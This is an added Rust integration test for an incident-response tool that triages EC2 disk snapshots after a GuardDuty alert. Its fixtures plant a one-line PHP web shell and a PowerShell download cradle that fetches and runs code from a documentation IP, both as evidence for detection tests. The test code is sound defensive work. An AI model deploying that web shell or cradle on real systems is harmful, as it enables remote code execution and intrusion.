@@ -1,0 +1,552 @@
+//! EC2 acquisition end to end, through a real `riposte serve` and the real AWS SDK against
+//! moto: a GuardDuty alert about an instance becomes a triage of *that instance's disks*
+//! (snapshots made, read in place through the EBS direct APIs, deleted afterwards), a
+//! verdict, the response and the notification. Also imports of an existing snapshot and
+//! of a Windows instance into a project, and an instance that does not exist.
+//!
+//! What is moto and what is emulated: moto runs EC2 (instances, volumes, snapshots, tags,
+//! security groups) and the EBS direct API for snapshots seeded with `StartSnapshot` /
+//! `PutSnapshotBlock`; the `ebs_direct.py` plugin (`MotoServer::start_ebs_direct_with`)
+//! makes a snapshot EC2 `CreateSnapshot` takes of a volume serve the blocks the volume was
+//! created from, and keeps it `pending` for a while with rising progress.
+
+mod common;
+
+use common::{
+    Received, Server, admin_key, create_resource, guardduty_sample_about, investigate_finding,
+    library, post_json, serve_binary, wait_for_finished, webhook_receiver,
+};
+use riposte_aws::testing::ebs_snapshot::upload_image;
+use riposte_aws::testing::ec2_instance::{
+    Disk, SeededInstance, instance_with_disks, riposte_snapshots, snapshot_exists,
+};
+use riposte_aws::testing::images::{Tree, ext4_image, ntfs_image, xfs_image};
+use riposte_aws::testing::{World, config};
+use riposte_fakes::moto::{ACCESS_KEY_ID, ACCOUNT_ID, EbsDirect, MotoServer, SECRET_ACCESS_KEY};
+use serde_json::{Value, json};
+use sha2::{Digest, Sha256};
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+const REGION: &str = "us-east-1";
+/// AWS's block size, which the patched moto reports.
+const AWS_BLOCK: u64 = 512 << 10;
+const RULE: &str = "triage-and-isolate-ec2";
+
+/// moto with AWS-sized blocks and snapshots pending for a second and a half.
+async fn emulator() -> (MotoServer, riposte_aws::SdkConfig) {
+    let moto = MotoServer::start_ebs_direct_with(EbsDirect {
+        block_size: Some(AWS_BLOCK as u32),
+        snapshot_seconds: Some(1.5),
+        enforce_iam_after: None,
+    })
+    .await;
+    let config = config(&moto.url(), REGION, ACCESS_KEY_ID, SECRET_ACCESS_KEY).await;
+    (moto, config)
+}
+
+/// Every file under `dir`, by its path on the original system.
+fn tree_of(dir: &Path) -> Tree {
+    fn walk(root: &Path, dir: &Path, tree: &mut Tree) {
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                walk(root, &path, tree);
+            } else {
+                let original = format!("/{}", path.strip_prefix(root).unwrap().display());
+                tree.insert(original, std::fs::read(&path).unwrap());
+            }
+        }
+    }
+    let mut tree = Tree::new();
+    walk(dir, dir, &mut tree);
+    tree
+}
+
+/// The compromised host of the library fixture (SSH brute force, a root login from the
+/// same address, a reverse shell in root's history) as an ext4 root volume, and a data
+/// volume in XFS holding a web root with an uploaded web shell, a backup no triage
+/// selects, and a second `/etc/hostname`.
+fn linux_disks(dir: &Path) -> (Tree, Tree, std::path::PathBuf, std::path::PathBuf) {
+    let lib = library(&dir.join("src"));
+    let root_tree = tree_of(&lib.join("victim"));
+    let mut data_tree = Tree::new();
+    data_tree.insert(
+        "/srv/www/html/uploads/shell.php".into(),
+        b"<?php system($_GET['cmd']); ?>\n".to_vec(),
+    );
+    data_tree.insert("/srv/backups/db.sql".into(), b"-- not triaged\n".to_vec());
+    data_tree.insert("/etc/hostname".into(), b"data-volume\n".to_vec());
+    let root_dir = dir.join("root");
+    let data_dir = dir.join("data");
+    std::fs::create_dir_all(&root_dir).unwrap();
+    std::fs::create_dir_all(&data_dir).unwrap();
+    let root = ext4_image(&root_tree, &root_dir, 32);
+    let data = xfs_image(&data_tree, &data_dir, 320);
+    (root_tree, data_tree, root, data)
+}
+
+async fn linux_instance(
+    config: &riposte_aws::SdkConfig,
+    root: &Path,
+    data: &Path,
+) -> SeededInstance {
+    let disks = [
+        Disk {
+            device_name: "/dev/sda1",
+            image: root,
+            tags: &[("Name", "web01-root")],
+        },
+        Disk {
+            device_name: "/dev/sdf",
+            image: data,
+            tags: &[("Name", "web01-data")],
+        },
+    ];
+    instance_with_disks(config, &disks, 1, AWS_BLOCK).await
+}
+
+/// A server pointed at moto, polling snapshots every second, with results posted to a
+/// receiver; its admin key and an environment whose AWS scope covers the account.
+async fn server(moto: &MotoServer, dir: &Path) -> (Server, String, Value, String, Received) {
+    let lib = dir.join("library");
+    std::fs::create_dir_all(&lib).unwrap();
+    let data = dir.join("data");
+    std::fs::create_dir_all(&data).unwrap();
+    let key = admin_key(&data);
+    let (url, received) = webhook_receiver().await;
+    let server = serve_binary(
+        &data,
+        &lib,
+        &[
+            "--outbound-allow",
+            "127.0.0.1/32",
+            "--webhook-url",
+            &url,
+            "--snapshot-poll-secs",
+            "1",
+            "--snapshot-timeout-secs",
+            "120",
+        ],
+        &moto.env(REGION),
+    );
+    let http = reqwest::Client::new();
+    let environment = create_resource(
+        &http,
+        &server,
+        &key,
+        "environments",
+        json!({"name": "aws-prod", "scopes": [
+            {"kind": "aws", "accounts": [ACCOUNT_ID], "regions": [REGION]},
+        ]}),
+    )
+    .await;
+    (server, key, environment, url, received)
+}
+
+fn sha256(data: &[u8]) -> String {
+    hex::encode(Sha256::digest(data))
+}
+
+fn audit_actions(d: &Value) -> Vec<String> {
+    d["audit"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["action"].as_str().unwrap().to_string())
+        .collect()
+}
+
+/// An audit entry's detail (stored as JSON text).
+fn detail(entry: &Value) -> Value {
+    serde_json::from_str(entry["detail"].as_str().unwrap()).unwrap()
+}
+
+fn audit_entry(d: &Value, action: &str) -> Value {
+    d["audit"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["action"] == action)
+        .map(detail)
+        .unwrap_or_else(|| panic!("no {action} in the audit trail: {:#}", d["audit"]))
+}
+
+/// The evidence items, by original path.
+fn evidence(d: &Value) -> std::collections::BTreeMap<String, Value> {
+    d["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| {
+            (
+                e["provenance"]["original_path"]
+                    .as_str()
+                    .unwrap()
+                    .to_string(),
+                e.clone(),
+            )
+        })
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_guardduty_alert_about_an_ec2_instance_is_triaged_from_its_own_snapshots_then_isolated_with_no_snapshot_left()
+ {
+    let (moto, config) = emulator().await;
+    let dir = tempfile::tempdir().unwrap();
+    let (root_tree, data_tree, root, data) = linux_disks(dir.path());
+    let instance = linux_instance(&config, &root, &data).await;
+    let world = World::create(&config).await;
+    let groups_before = world.instance_group_ids(&instance.instance_id).await;
+    let (server, key, environment, _, received) = server(&moto, dir.path()).await;
+    let http = reqwest::Client::new();
+    create_resource(
+        &http,
+        &server,
+        &key,
+        "rules",
+        json!({"name": RULE, "source": "guardduty", "environment_id": environment["id"],
+               "priority": 1, "filters": {"finding_types": ["UnauthorizedAccess:EC2/SSHBruteForce"]},
+               "actions": [{"action": "isolate_security_group", "on": "malicious"}]}),
+    )
+    .await;
+
+    let d = investigate_finding(
+        &http,
+        &server,
+        &key,
+        &guardduty_sample_about(&instance.instance_id, None),
+    )
+    .await;
+    let inv = &d["investigation"];
+    assert_eq!(inv["status"], "complete", "{d:#}\n{}", server.log());
+    assert_eq!(inv["plan"]["scope"]["acquisition"]["method"], "ec2");
+    assert_eq!(
+        inv["plan"]["scope"]["acquisition"]["instance_id"],
+        instance.instance_id.as_str()
+    );
+    assert_eq!(
+        inv["verdict"]["verdict"], "Malicious Activity Identified",
+        "{:#}",
+        d["alarms"]
+    );
+
+    // Two snapshots, root volume first, made by Riposte for this investigation.
+    let snapshots = inv["acquisition"]["snapshots"].as_array().unwrap();
+    assert_eq!(snapshots.len(), 2, "{:#}", inv["acquisition"]);
+    assert_eq!(
+        snapshots[0]["device_name"],
+        instance.root_device_name.as_str()
+    );
+    assert_eq!(snapshots[1]["device_name"], "/dev/sdf");
+    let volume_ids: Vec<&str> = instance
+        .volumes
+        .iter()
+        .map(|v| v.volume_id.as_str())
+        .collect();
+    for s in snapshots {
+        assert_eq!(s["instance_id"], instance.instance_id.as_str());
+        assert_eq!(s["region"], REGION);
+        assert_eq!(s["account_id"], ACCOUNT_ID);
+        assert_eq!(s["created_by_riposte"], true);
+        assert!(
+            volume_ids.contains(&s["volume_id"].as_str().unwrap()),
+            "{s:#}"
+        );
+    }
+    let snapshot_ids: Vec<String> = snapshots
+        .iter()
+        .map(|s| s["snapshot_id"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(inv["acquisition"]["layouts"], json!(["linux"]));
+
+    // The collected files are the volumes' files, byte for byte, each with its volume.
+    let items = evidence(&d);
+    for path in ["/var/log/auth.log", "/root/.bash_history", "/etc/hostname"] {
+        let item = items
+            .get(path)
+            .unwrap_or_else(|| panic!("{path} not collected: {:#?}", items.keys()));
+        assert_eq!(item["sha256"], sha256(&root_tree[path]), "{path}");
+        assert_eq!(item["provenance"]["method"], "ebs-snapshot");
+        assert_eq!(item["provenance"]["cloud"]["device_name"], "/dev/sda1");
+        assert_eq!(
+            item["provenance"]["cloud"]["snapshot_id"],
+            snapshot_ids[0].as_str()
+        );
+        assert_eq!(item["provenance"]["image"]["filesystem"], "ext");
+    }
+    let shell = "/srv/www/html/uploads/shell.php";
+    let access = items.get(shell).unwrap_or_else(|| {
+        panic!(
+            "the data volume's web root was not collected: {:#?}",
+            items.keys()
+        )
+    });
+    assert_eq!(access["sha256"], sha256(&data_tree[shell]));
+    assert!(
+        !items.contains_key("/srv/backups/db.sql"),
+        "triage took everything"
+    );
+    assert_eq!(access["provenance"]["cloud"]["device_name"], "/dev/sdf");
+    assert_eq!(
+        access["provenance"]["cloud"]["snapshot_id"],
+        snapshot_ids[1].as_str()
+    );
+    assert_eq!(access["provenance"]["image"]["filesystem"], "xfs");
+    // The data volume's own /etc/hostname is listed as skipped, the root's kept.
+    let skipped: Vec<&Value> = d["audit"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|e| e["action"] == "evidence.skipped" && detail(e)["path"] == "/etc/hostname")
+        .collect();
+    assert_eq!(skipped.len(), 1, "{:#}", d["audit"]);
+    assert!(
+        detail(skipped[0])["reason"]
+            .as_str()
+            .unwrap()
+            .contains("/dev/sdf"),
+        "{:#}",
+        skipped[0]
+    );
+
+    // Chain of custody: the snapshots recorded when made, then deleted.
+    let actions = audit_actions(&d);
+    let made = actions
+        .iter()
+        .position(|a| a == "acquisition.snapshots")
+        .expect("snapshots recorded");
+    let cleaned = actions
+        .iter()
+        .position(|a| a == "acquisition.snapshots_cleaned")
+        .expect("cleanup recorded");
+    assert!(made < cleaned, "{actions:?}");
+    let mut deleted: Vec<String> =
+        serde_json::from_value(audit_entry(&d, "acquisition.snapshots_cleaned")["deleted"].clone())
+            .unwrap();
+    deleted.sort();
+    let mut expected = snapshot_ids.clone();
+    expected.sort();
+    assert_eq!(deleted, expected);
+    // No snapshot Riposte made is left in the account.
+    assert!(
+        riposte_snapshots(&config).await.is_empty(),
+        "{:#?}",
+        riposte_snapshots(&config).await
+    );
+    for id in &snapshot_ids {
+        assert!(!snapshot_exists(&config, id).await, "{id} still exists");
+    }
+    // The collect job said what it was doing.
+    let collect = d["jobs"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|j| j["kind"] == "collect")
+        .unwrap();
+    assert!(
+        collect["progress"]
+            .as_str()
+            .is_some_and(|p| p.starts_with("read 2 snapshot(s)")),
+        "{collect:#}"
+    );
+
+    // The response: the instance is isolated in a new, empty security group.
+    let action = &d["actions"][0];
+    assert_eq!(
+        action["action"], "isolate_security_group",
+        "{:#}",
+        d["actions"]
+    );
+    assert_eq!(action["status"], "succeeded", "{action:#}");
+    let groups = world.instance_group_ids(&instance.instance_id).await;
+    assert_eq!(groups.len(), 1, "{groups:?}");
+    assert!(!groups_before.contains(&groups[0]));
+
+    // The webhook got the verdict.
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        let bodies = received.lock().unwrap().clone();
+        if let Some((_, body)) = bodies
+            .iter()
+            .find(|(_, b)| b["investigation_id"] == inv["id"])
+        {
+            assert_eq!(body["verdict"], "Malicious Activity Identified", "{body:#}");
+            break;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no webhook for the investigation: {bodies:?}"
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+/// A Windows instance: one NTFS volume holding a Sysmon log of a Meterpreter reverse shell
+/// (a real attack sample from the corpus) and a PowerShell history with a download cradle.
+fn windows_disk(dir: &Path) -> (Tree, std::path::PathBuf) {
+    let mut tree = Tree::new();
+    let sysmon =
+        common::corpus().join("evtx/Execution/Exec_sysmon_meterpreter_reversetcp_msipackage.evtx");
+    tree.insert(
+        "/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx".into(),
+        std::fs::read(sysmon).unwrap(),
+    );
+    tree.insert(
+        "/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
+            .into(),
+        b"whoami\r\nIEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\r\n"
+            .to_vec(),
+    );
+    tree.insert("/Program Files/App/app.exe".into(), b"MZ".to_vec());
+    let ntfs_dir = dir.join("ntfs");
+    std::fs::create_dir_all(&ntfs_dir).unwrap();
+    let image = ntfs_image(&tree, &ntfs_dir, 32);
+    (tree, image)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn project_imports_read_a_windows_instance_and_an_existing_snapshot_and_name_a_missing_instance()
+ {
+    let (moto, config) = emulator().await;
+    let dir = tempfile::tempdir().unwrap();
+    let (windows_tree, ntfs) = windows_disk(dir.path());
+    let windows = instance_with_disks(
+        &config,
+        &[Disk {
+            device_name: "/dev/sda1",
+            image: &ntfs,
+            tags: &[("Name", "win01")],
+        }],
+        1,
+        AWS_BLOCK,
+    )
+    .await;
+    // An existing snapshot of the compromised Linux host, imported by id.
+    let (root_tree, _, root, _) = linux_disks(dir.path());
+    let existing = upload_image(&config, &root, 1, AWS_BLOCK).await;
+    let (server, key, environment, _, _) = server(&moto, dir.path()).await;
+    let http = reqwest::Client::new();
+    let project = create_resource(
+        &http,
+        &server,
+        &key,
+        "projects",
+        json!({"name": "Sunday hunt"}),
+    )
+    .await;
+    let missing = "i-0deadbeefdeadbeef";
+    let r = post_json(
+        &http,
+        format!("{}/api/v1/projects/{}/imports", server.base, project["id"].as_str().unwrap()),
+        &key,
+        &json!({"environment_id": environment["id"], "systems": [
+            {"kind": "ec2", "instance_id": windows.instance_id, "region": REGION, "account_id": ACCOUNT_ID},
+            {"kind": "ebs_snapshot", "snapshot_id": existing.snapshot_id, "region": REGION, "account_id": ACCOUNT_ID},
+            {"kind": "ec2", "instance_id": missing, "region": REGION, "account_id": ACCOUNT_ID},
+        ]}),
+    )
+    .await;
+    let status = r.status();
+    let imported: Value = r.json().await.unwrap();
+    assert_eq!(status, 202, "{imported:#}");
+    let ids: Vec<String> = imported["investigations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| i["investigation_id"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(ids.len(), 3);
+
+    // The Windows instance: its NTFS volume triaged with the Windows profile.
+    let d = wait_for_finished(&http, &server.base, &key, &ids[0]).await;
+    let inv = &d["investigation"];
+    assert_eq!(inv["status"], "complete", "{d:#}\n{}", server.log());
+    assert_eq!(
+        inv["acquisition"]["layouts"],
+        json!(["windows"]),
+        "{:#}",
+        inv["acquisition"]
+    );
+    assert_eq!(inv["acquisition"]["profiles"], json!(["windows-triage"]));
+    let items = evidence(&d);
+    let history = items
+        .iter()
+        .find(|(path, _)| path.ends_with("PSReadLine/ConsoleHost_history.txt"))
+        .unwrap_or_else(|| panic!("history not collected: {:#?}", items.keys()))
+        .1;
+    assert_eq!(
+        history["sha256"],
+        sha256(
+            &windows_tree["/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"]
+        )
+    );
+    assert_eq!(history["provenance"]["image"]["filesystem"], "ntfs");
+    let sysmon = items
+        .iter()
+        .find(|(path, _)| path.ends_with("Microsoft-Windows-Sysmon%4Operational.evtx"))
+        .unwrap_or_else(|| panic!("Sysmon log not collected: {:#?}", items.keys()))
+        .1;
+    assert_eq!(
+        sysmon["sha256"],
+        sha256(
+            &windows_tree["/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"]
+        )
+    );
+    assert!(
+        !items.keys().any(|p| p.ends_with("app.exe")),
+        "triage took everything"
+    );
+    assert_ne!(
+        inv["verdict"]["verdict"], "No Evidence Found",
+        "{:#}",
+        d["alarms"]
+    );
+    assert!(
+        d["alarms"].as_array().is_some_and(|a| !a.is_empty()),
+        "the attack sample raised nothing"
+    );
+
+    // The existing snapshot: read in place, a verdict, and never deleted.
+    let d = wait_for_finished(&http, &server.base, &key, &ids[1]).await;
+    let inv = &d["investigation"];
+    assert_eq!(inv["status"], "complete", "{d:#}\n{}", server.log());
+    assert_eq!(
+        inv["plan"]["scope"]["acquisition"]["method"],
+        "ebs_snapshot"
+    );
+    assert_eq!(
+        inv["verdict"]["verdict"], "Malicious Activity Identified",
+        "{:#}",
+        d["alarms"]
+    );
+    let snapshots = inv["acquisition"]["snapshots"].as_array().unwrap();
+    assert_eq!(snapshots.len(), 1);
+    assert_eq!(snapshots[0]["snapshot_id"], existing.snapshot_id.as_str());
+    assert_eq!(snapshots[0]["created_by_riposte"], false);
+    let history = &evidence(&d)["/root/.bash_history"];
+    assert_eq!(history["sha256"], sha256(&root_tree["/root/.bash_history"]));
+    assert!(
+        snapshot_exists(&config, &existing.snapshot_id).await,
+        "the imported snapshot was deleted"
+    );
+
+    // The missing instance: failed, saying which instance and what to check.
+    let d = wait_for_finished(&http, &server.base, &key, &ids[2]).await;
+    let inv = &d["investigation"];
+    assert_eq!(inv["status"], "failed", "{d:#}");
+    let error = inv["error"].as_str().unwrap();
+    assert!(
+        error.contains(missing) && error.contains("was not found in region us-east-1"),
+        "{error}"
+    );
+    assert!(d["evidence"].as_array().unwrap().is_empty());
+
+    // Nothing Riposte made is left.
+    assert!(
+        riposte_snapshots(&config).await.is_empty(),
+        "{:#?}",
+        riposte_snapshots(&config).await
+    );
+}
